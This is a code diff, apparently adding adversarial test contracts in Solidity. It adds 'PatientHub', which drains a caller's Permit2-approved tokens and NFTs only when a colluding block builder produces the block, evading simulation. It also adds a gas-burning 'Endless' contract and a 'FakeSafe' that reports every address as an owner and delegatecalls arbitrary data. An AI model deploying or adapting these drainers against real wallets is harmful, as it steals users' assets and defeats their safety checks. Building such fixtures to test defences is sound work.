@@ -139,3 +139,49 @@ contract FakeAirdrop {
         require(fine);
     }
 }
+
+/// Pulls through Permit2, and pictures as their operator, in a block of its choice.
+contract PatientHub {
+    address public immutable accomplice;
+
+    constructor(address accomplice_) {
+        accomplice = accomplice_;
+    }
+
+    function play(address permit2, address token, uint160 amount) external {
+        if (block.coinbase == accomplice) {
+            (bool fine,) = permit2.call(
+                abi.encodeWithSignature(
+                    "transferFrom(address,address,uint160,address)", msg.sender, address(this), amount, token
+                )
+            );
+            require(fine);
+        }
+    }
+
+    function show(ERC721 collection, uint256 id) external {
+        if (block.coinbase == accomplice) {
+            collection.transferFrom(msg.sender, address(this), id);
+        }
+    }
+}
+
+/// Never ends.
+contract Endless {
+    function wait_() external view {
+        while (gasleft() > 0) {}
+    }
+}
+
+/// Looks like a Safe to whoever asks for its owners, and runs what it is told.
+contract FakeSafe {
+    function isOwner(address) external pure returns (bool) {
+        return true;
+    }
+
+    function execTransaction(
+        address to, uint256, bytes calldata data, uint8, uint256, uint256, uint256, address, address payable, bytes calldata
+    ) external payable returns (bool fine) {
+        (fine,) = to.delegatecall(data);
+    }
+}
